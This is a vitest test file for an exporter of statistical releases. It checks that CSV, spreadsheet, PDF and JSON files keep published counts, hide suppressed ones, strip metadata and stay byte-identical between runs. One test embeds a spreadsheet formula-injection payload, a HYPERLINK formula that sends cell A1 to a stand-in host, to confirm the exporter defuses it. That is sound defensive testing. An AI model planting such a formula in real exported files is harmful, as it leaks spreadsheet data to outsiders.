/** What the files of a release say when they are opened again: the published numbers, and nothing of the hidden ones. */
import { parse } from 'csv-parse/sync'
import { strFromU8, unzipSync } from 'fflate'
import { describe, expect, test } from 'vitest'
import { LOCALES } from '../../../lib/domain/locale.ts'
import type { DocumentTable, ReleaseDocument } from '../../../lib/domain/releases/document.ts'
import { quartilesCsv, tableCsv } from '../../../lib/server/releases/csv.ts'
import { releaseJson, releaseJsonSchema } from '../../../lib/server/releases/json.ts'
import { releasePdf } from '../../../lib/server/releases/pdf/pdf.ts'
import { releaseFiles } from '../../../lib/server/releases/release-files.ts'
import { CATALOGUE } from '../../../lib/server/i18n/catalogue.ts'
import { releaseXlsx } from '../../../lib/server/releases/xlsx.ts'
import { LARGE, SMALL, sized, words } from './invented-release.ts'
import { textOfPdf } from './open-pdf.ts'

const RELEASES = [
  { size: 'a large release', release: LARGE },
  { size: 'a release of which only a total is shown', release: SMALL },
]
/** Milliseconds: the fonts are cut anew for every file, and a machine may be busy. */
const SLOW = 60_000

const EVERY = RELEASES.flatMap((one) => LOCALES.map((locale) => ({ ...one, locale })))

describe.each(EVERY)(
  '$size in $locale',
  ({ release, locale }) => {
    test('as CSV has the same cells in the same order, under words and hashtags', () => {
      for (const table of release.tables) {
        const [header = [], hashtags = [], ...rows] = parsed(tableCsv(release, table, locale))
        expect(hashtags.every((one) => /^#[a-z][a-z0-9_]*(\+[a-z][a-z0-9_]*)*$/.test(one))).toBe(true)
        expect(header[1]).toBe(table.dimensions[0]?.label[locale])
        expect(new Set(hashtags).size).toBe(hashtags.length)
        const column = (hashtag: string) => rows.map((row) => row[hashtags.indexOf(hashtag)])
        const codes = table.dimensions.map(({ hashtag }) => column(`${hashtag}+code`))
        expect(
          rows.map((_, row) => ({
            at: codes.map((one) => one[row]),
            count: numberOf(column('#affected+num')[row]),
          })),
        ).toEqual(table.cells.map(({ at, count }) => ({ at, count })))
        expect(column('#meta+status')).toEqual(
          table.cells.map(({ count }) => (count === null ? 'hidden' : 'published')),
        )
        expect(new Set(column('#meta+fingerprint'))).toEqual(new Set([release.fingerprint]))
        expect(new Set(column('#meta+threshold'))).toEqual(new Set([String(release.k)]))
      }
    })

    test('as a spreadsheet has the same numbers as numbers, and neither a formula nor anybody’s name', async () => {
      const file = await releaseXlsx(release, locale)
      const { parts, sheets } = opened(file)
      // The day of the release at midnight, as ZIP writes it (APPNOTE 4.4.6).
      expect([file.readUInt16LE(10), file.readUInt16LE(12)]).toEqual([
        0,
        ((2026 - 1980) << 9) | (4 << 5) | 15,
      ])
      for (const [index, table] of release.tables.entries()) {
        const [, ...rows] = sheets[index + 1] ?? []
        const count = table.dimensions.length * 2
        expect(rows.map((row) => row[count] ?? null)).toEqual(table.cells.map((cell) => cell.count))
        expect(rows.map((row) => table.dimensions.map((_, at) => row[2 * at]))).toEqual(
          table.cells.map(({ at }) => at),
        )
      }
      const { threshold } = CATALOGUE[locale].releaseFiles
      expect(sheets[0]?.filter(([name]) => name === threshold)).toEqual([[threshold, String(release.k)]])
      const everything = Object.values(parts).join('')
      expect(everything).not.toMatch(/<f[ >]/)
      expect(Object.keys(parts).filter((name) => /docProps|comments|external|custom/i.test(name))).toEqual([])
      expect(everything).not.toMatch(/creator|lastModifiedBy|absPath|20\d\d-\d\d-\d\dT/i)
    })

    test('as PDF shows each published number as text, and none that no cell has', async () => {
      const { text, info } = await textOfPdf(await releasePdf(release, locale))
      const shown = new Set(text.match(/\d+/g) ?? [])
      const counts = release.tables.flatMap(({ cells }) => cells.flatMap(({ count }) => count ?? []))
      expect(counts.filter((count) => !shown.has(String(count)))).toEqual([])
      const hidden = release.tables.flatMap(({ cells }) => cells.filter(({ count }) => count === null))
      expect(text.match(/·/g)?.length).toBeGreaterThanOrEqual(hidden.length)
      const known = [release, locale === 'en' ? null : release.licence, counts]
        .map((one) => JSON.stringify(one))
        .join()
      const allowed = new Set([
        ...(known.match(/\d+/g) ?? []),
        '0',
        String(release.k - 1),
        String(2 * release.k),
        '10',
        '4',
        // The values that are left to whoever knows which counts are small: five, or all that are below k.
        String(Math.min(5, release.k - 1)),
      ])
      const pages = Array.from({ length: 20 }, (_, page) => String(page + 1))
      expect([...shown].filter((one) => !allowed.has(one) && !pages.includes(one))).toEqual([])
      expect(text).toContain(release.title[locale].split(' ')[0])
      for (const { label } of release.tables[0]?.dimensions ?? []) expect(text).toContain(label[locale])
      expect(text).toContain(release.fingerprint)
      const { threshold, checkedText } = CATALOGUE[locale].releaseFiles
      const flat = text.replace(/\s/g, '')
      expect(flat).toContain(`${threshold}${String(release.k)}`.replace(/\s/g, ''))
      const checked = checkedText
        .replaceAll('{k}', String(release.k))
        .replace('{values}', release.k === 5 ? '4' : '5')
      expect(flat).toContain(checked.replace(/\s/g, ''))
      expect(text).not.toContain('\uFFFD')
      expect(info).toEqual({
        Title: `${release.code} ${release.title[locale]}`,
        CreationDate: 'D:20260415000000Z',
      })
    })
  },
  SLOW,
)

test('JSON is what its schema says, with the same cells and the same words', () => {
  for (const { release } of RELEASES) {
    const file = releaseJsonSchema.parse(JSON.parse(releaseJson(release).toString('utf8')))
    expect(file.tables.map(({ cells }) => cells.map(({ at, count }) => ({ at, count })))).toEqual(
      release.tables.map(({ cells }) => cells),
    )
    expect(file.release).toMatchObject({
      code: release.code,
      threshold: release.k,
      narrative: release.narrative,
    })
    expect(file.quartiles.map(({ rows }) => rows.map(({ median }) => median))).toEqual(
      release.quartiles.map(({ rows }) => rows.map(({ quartiles }) => quartiles?.[1] ?? null)),
    )
    expect(file.dictionary.find(({ name }) => name === 'tables.cells.count')?.null).not.toBeNull()
    expect(file.dictionary.map(({ name }) => name)).toContain('release.threshold')
  }
})

test('quartiles as CSV are days, or hidden', () => {
  const [durations] = LARGE.quartiles
  if (durations === undefined) throw new Error('no quartiles')
  const [, , ...rows] = parsed(quartilesCsv(LARGE, durations, 'en'))
  expect(rows.map((row) => row.slice(2, 6))).toEqual([
    ['10', '30', '70', 'published'],
    ['40', '90', '210', 'published'],
    ['', '', '', 'hidden'],
  ])
})

test(
  'the same document gives the same bytes, also when its fields stand in another order',
  async () => {
    const again: ReleaseDocument = { ...reversed(LARGE), ...reversed(LARGE) }
    const [files, others] = [await releaseFiles(LARGE), await releaseFiles(again)]
    expect(others.map(({ name }) => name)).toEqual(files.map(({ name }) => name))
    for (const [index, { name, bytes }] of files.entries()) {
      expect({ name, same: others[index]?.bytes.equals(bytes) }).toEqual({ name, same: true })
    }
  },
  SLOW,
)

test('a label that is a formula is text in CSV and in a spreadsheet', async () => {
  const evil = '\u200b=HYPERLINK("http://x/"&A1)'
  const release: ReleaseDocument = {
    ...SMALL,
    tables: SMALL.tables.map((table) => ({
      ...table,
      dimensions: table.dimensions.map((one) => ({ ...one, total: { ...one.total, label: words(evil) } })),
    })),
  }
  const table = tableAt(release, 0)
  expect(
    parsed(tableCsv(release, table, 'en'))
      .flat()
      .filter((one) => one.includes('HYPERLINK')),
  ).toEqual([`_${evil}`])
  const { sheets } = opened(await releaseXlsx(release, 'en'))
  expect(sheets.flat(2).filter((one) => String(one).includes('HYPERLINK'))).toEqual([`_${evil}`])
})

test.each([
  ['a missing cell', (table: DocumentTable) => table.cells.slice(1)],
  ['a cell twice', (table: DocumentTable) => [...table.cells, ...table.cells.slice(0, 1)]],
  ['a negative count', (table: DocumentTable) => table.cells.map((cell) => ({ ...cell, count: -1 }))],
  ['half a person', (table: DocumentTable) => table.cells.map((cell) => ({ ...cell, count: 0.5 }))],
])('a table with %s makes no file at all', async (_, cells) => {
  const tables = SMALL.tables.map((table) => ({ ...table, cells: cells(table) }))
  await expect(releaseFiles({ ...SMALL, tables })).rejects.toThrow('table sex')
})

test(
  '3,000 cells take less than a second in each format',
  async () => {
    const release = sized(60, 50)
    const table = tableAt(release, 0)
    for (const make of [
      () => tableCsv(release, table, 'ko'),
      () => releaseXlsx(release, 'ko'),
      () => releaseJson(release),
      () => releasePdf(release, 'ko'),
    ]) {
      expect(Math.min(await secondsOf(make), await secondsOf(make))).toBeLessThan(1)
    }
  },
  SLOW,
)

/** Time of the processor, not of the wall: what else runs on the machine is no fault of a file. */
async function secondsOf(make: () => unknown): Promise<number> {
  const before = process.cpuUsage()
  await make()
  const { user, system } = process.cpuUsage(before)
  return (user + system) / 1_000_000
}

function tableAt({ tables }: ReleaseDocument, index: number): DocumentTable {
  const table = tables[index]
  if (table === undefined) throw new Error('no table')
  return table
}

function parsed(file: Buffer): readonly (readonly string[])[] {
  expect(file.includes('\r\n')).toBe(true)
  return parse(file, { record_delimiter: '\r\n', bom: false })
}

function numberOf(text: string | undefined): number | null {
  return text === '' || text === undefined ? null : Number(text)
}

function reversed<T extends object>(value: T): T {
  return { ...value, ...Object.fromEntries(Object.entries(value).reverse()) }
}

type Cell = string | number | null

/** A spreadsheet's parts as text, and its sheets as rows of cells, read from the XML (ECMA-376, part 1, section 18). */
function opened(file: Buffer): {
  readonly parts: Readonly<Record<string, string>>
  readonly sheets: readonly (readonly (readonly Cell[])[])[]
} {
  const parts = Object.fromEntries(
    Object.entries(unzipSync(file)).map(([name, bytes]) => [name, strFromU8(bytes)]),
  )
  const shared = all(parts['xl/sharedStrings.xml'] ?? '', /<si>(.*?)<\/si>/gs).map((one) => plain(one))
  const names = Object.keys(parts)
    .filter((name) => name.startsWith('xl/worksheets/sheet'))
    .sort((one, other) => one.localeCompare(other, 'en', { numeric: true }))
  return {
    parts,
    sheets: names.map((name) =>
      all(parts[name] ?? '', /<row [^>]*?(?:\/>|>(.*?)<\/row>)/gs).map((row) => {
        const cells: Cell[] = []
        for (const [, column = '', attributes = '', content = ''] of row.matchAll(
          /<c r="([A-Z]+)\d+"([^>]*?)(?:\/>|>(.*?)<\/c>)/gs,
        )) {
          const at = column.split('').reduce((sum, letter) => sum * 26 + letter.charCodeAt(0) - 64, 0) - 1
          const value = /<v>(.*?)<\/v>/s.exec(content)?.[1]
          const text = attributes.includes('t="s"') ? shared[Number(value)] : plain(content)
          cells[at] = value !== undefined && !attributes.includes('t="') ? Number(value) : (text ?? null)
        }
        return cells
      }),
    ),
  }
}

function all(text: string, pattern: RegExp): readonly string[] {
  return [...text.matchAll(pattern)].map((match) => match[1] ?? '')
}

function plain(xml: string): string {
  return xml
    .replace(/<[^>]*>/g, '')
    .replaceAll('&lt;', '<')
    .replaceAll('&gt;', '>')
    .replaceAll('&quot;', '"')
    .replaceAll('&amp;', '&')
}
